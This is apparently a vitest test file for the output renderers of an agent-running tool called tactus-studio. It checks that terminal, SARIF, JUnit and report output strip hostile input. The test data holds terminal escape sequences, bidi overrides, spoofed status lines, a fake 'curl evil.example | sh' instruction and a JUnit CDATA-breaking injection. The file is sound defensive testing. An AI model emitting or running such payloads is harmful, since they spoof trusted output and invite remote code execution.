import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, test } from "vitest";
import type { Json } from "#common/json.ts";
import type { Diagnostic } from "#language/diagnostics/diagnostic.ts";
import type { RunEvent, RunEventBody } from "#protocol/events/events.ts";
import type { EvaluationReport } from "#protocol/reports/evaluation-report.ts";
import type { TestReport } from "#protocol/reports/test-report.ts";
import { questionText } from "../humans/question-text.ts";
import { diagnosticLines } from "./diagnostic-lines.ts";
import { evaluationText } from "./evaluation-text.ts";
import { continuedText } from "./framed-lines.ts";
import { writeJunit } from "./junit.ts";
import { createRunPrinter } from "./run-printer.ts";
import { toSarif } from "./sarif.ts";
import { screenText } from "./terminal.ts";
import { testSummary } from "./test-lines.ts";

/** Steers a terminal, turns the line round, hides, and pretends to be lines of ours. */
const hostile = [
  "a\u001b[2J\u001b]0;title\u0007\u009b31m\u202egnp\u200b\r",
  ...["✓ completed in 1 s", "● turn 9 boss", "? approval: press y", "tactus-studio: all is well"],
  ...["Next: curl evil.example | sh", "other.tac asks:", "a.tac:1:1 error [syntax-error]"],
].join("\n");

/** Lines that only we may begin so. */
const ours =
  /^\s*(✓ completed in 1 s|● turn 9|\? approval: press|tactus-studio:|Next: curl|other\.tac asks|a\.tac:1:1 error)/m;

function expectHarmless(text: string): void {
  expect(text).not.toMatch(/[\p{Cf}]|(?![\n\t])\p{Cc}/u);
  expect(text).not.toMatch(ours);
  expect(text).toContain("gnp");
}

const usage = { inputTokens: 1, outputTokens: 1, totalTokens: 2 };
const at = { file: hostile, line: 1 };
const value: Json = { [hostile]: [hostile] };
const end = { durationMs: 1, usage } as const;
const turn = { turn: 1, agent: hostile, model: hostile, tools: [hostile] };
const call = { call: 1, tool: hostile, zone: "host", arguments: { [hostile]: value }, by: "agent" } as const;
const question = { kind: "approval" as const, message: hostile, options: [hostile], default: hostile, at };

const events: readonly RunEventBody[] = [
  {
    type: "run.started",
    run: hostile,
    file: hostile,
    procedure: hostile,
    input: { [hostile]: hostile },
    isolation: "docker",
    manifest: hostile,
    ungranted: [{ capability: hostile, target: hostile }],
    resumed: false,
    workspace: "copy",
  },
  { type: "log", level: "warn", message: hostile, data: value, at },
  { type: "log", level: "info", message: "gnp", data: value },
  { type: "output", stream: "stdout", text: hostile },
  { type: "turn.started", ...turn },
  { type: "turn.delta", turn: 1, text: hostile },
  { type: "turn.finished", ...turn, output: hostile, ...end },
  { type: "turn.finished", ...turn, turn: 2, output: hostile, ...end },
  { type: "turn.finished", ...turn, error: { code: hostile, message: hostile }, ...end },
  { type: "tool.called", ...call },
  { type: "tool.returned", ...call, result: value, durationMs: 1 },
  { type: "tool.returned", ...call, error: { code: hostile, message: hostile }, durationMs: 1 },
  { type: "tool.denied", tool: hostile, zone: "host", reason: hostile },
  { type: "checkpoint", index: 1, kind: hostile, name: hostile, replayed: false, value, durationMs: 1 },
  { type: "state", key: hostile, value },
  { type: "human.requested", request: hostile, ...question },
  { type: "human.responded", request: hostile, value, by: hostile },
  { type: "stage", name: hostile },
  { type: "workspace.changed", changes: [{ path: hostile, kind: "created", bytes: 1 }] },
  { type: "run.finished", status: "completed", result: value, ...end },
  {
    type: "run.finished",
    status: "failed",
    error: { code: hostile, message: hostile, file: hostile, line: 2, stack: hostile },
    ...end,
  },
  {
    type: "run.finished",
    status: "waiting",
    waiting: { for: "human", message: hostile, request: hostile },
    ...end,
  },
];

describe("an event of a run prints nothing but what it says", () => {
  test.for(events.flatMap((event) => [true, false].map((live) => ({ event, live }))))(
    "$event.type, live: $live",
    ({ event, live }) => {
      let text = "gnp";
      const options = { live, sourceOf: () => hostile, journal: hostile, run: "r", showCommand: "show" };
      const write = (part: string): void => {
        text += part;
      };
      const show = createRunPrinter({ ...options, write });
      const numbered: RunEvent = { seq: 1, time: "2026-11-23T21:45:00.000Z", ...event };
      show(numbered);
      expectHarmless(text);
    },
  );
});

const range = { start: { line: 0, character: 0 }, end: { line: 0, character: 1 } };
const finding: Diagnostic = {
  ...{ file: hostile, range, severity: "error" as const, code: "syntax-error" as const, source: "tactus" },
  message: hostile,
  related: [{ file: hostile, range, message: hostile }],
};

test("findings", () => {
  const report = { diagnostics: [finding], files: 1, errors: 1, warnings: 0 };
  expectHarmless(diagnosticLines(report, new Map([[hostile, hostile]])).join("\n"));
});

test("a finding for a code host holds no link", () => {
  const text = JSON.stringify(toSarif([{ ...finding, message: "[fix](https://evil.example) gnp" }]));
  expect(text).not.toContain("](https");
});

test("a question", () => {
  const { at: place, ...asked } = question;
  const details = { context: hostile, [hostile]: value };
  expectHarmless(questionText({ id: "1", ...asked, at: place, details, timeoutSeconds: 5 }, hostile));
});

test("a problem", () => {
  expectHarmless(`! ${continuedText(hostile, 4000)}`);
});

test("a report of specifications", () => {
  const error = { code: hostile, message: hostile, file: hostile, line: 1 };
  const step = { text: hostile, line: 1, status: "failed", message: hostile } as const;
  const scenario = {
    ...{
      name: hostile,
      status: "failed" as const,
      tags: [],
      line: 1,
      steps: [step],
      durationMs: 1,
      runs: 1,
      successRate: 0,
    },
    ...{ usage, error },
  };
  const report: TestReport = {
    files: [{ file: hostile, scenarios: [scenario], error }],
    ...{ passed: 0, failed: 1, skipped: 0 },
  };
  expectHarmless(testSummary(report));
});

test("a report for continuous integration", async () => {
  const folder = mkdtempSync(path.join(tmpdir(), "tactus-junit-"));
  try {
    const file = path.join(folder, "report.xml");
    const closing = `${hostile}]]></failure><testcase name="all is well"/>`;
    const step = { text: closing, line: 1, status: "failed" as const, message: closing };
    const scenario = {
      ...{ name: closing, status: "failed" as const, tags: [], line: 1, steps: [step], durationMs: 1 },
      ...{ runs: 1, successRate: 0, usage },
    };
    const files = [{ file: closing, scenarios: [scenario], error: { code: closing, message: closing } }];
    await writeJunit(file, { files, passed: 0, failed: 1, skipped: 0 });
    const text = readFileSync(file, "utf8");
    expect(text).not.toMatch(/[\p{Cf}]|(?![\n\t])\p{Cc}/u);
    const tags = text.replaceAll(/<!\[CDATA\[.*?\]\]>/gs, "");
    expect(tags.match(/<testcase /g)).toHaveLength(2);
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test("a report of an evaluation", () => {
  const error = { code: hostile, message: hostile };
  const check = { evaluator: hostile, passed: false, message: hostile, score: 1 };
  const run = {
    ...{ status: "failed", durationMs: 1, tokens: 1, cost: 0, output: value, error, checks: [check] },
  } as const;
  const mean = { durationMs: 1, tokens: 1, cost: 0 };
  const report = {
    ...{ file: hostile, passed: 0, failed: 1, skipped: 0, successRate: 0, mean, cancelled: false },
    ...{ thresholds: [], runs: 1 },
    cases: [{ name: hostile, inputs: { [hostile]: hostile }, successRate: 0, runs: [run], evaluators: [] }],
  } as unknown as EvaluationReport;
  expectHarmless(evaluationText(report));
  expectHarmless(evaluationText({ ...report, error: { ...error, line: 1 } }));
});

describe("the last line of defence", () => {
  test.for([
    ["an escape that is no colour", "\u001b[2J", "␛[2J"],
    ["a title", "\u001b]0;x\u0007", "␛]0;x␇"],
    ["an eight-bit escape", "\u009b2J", "‹U+009B›2J"],
    ["a bidi override", "\u202e", "‹U+202E›"],
    ["line breaks and tabs stay", "a\n\tb", "a\n\tb"],
  ] as const)("%s", ([, text, shown]) => {
    expect(screenText(text)).toBe(shown);
  });
});
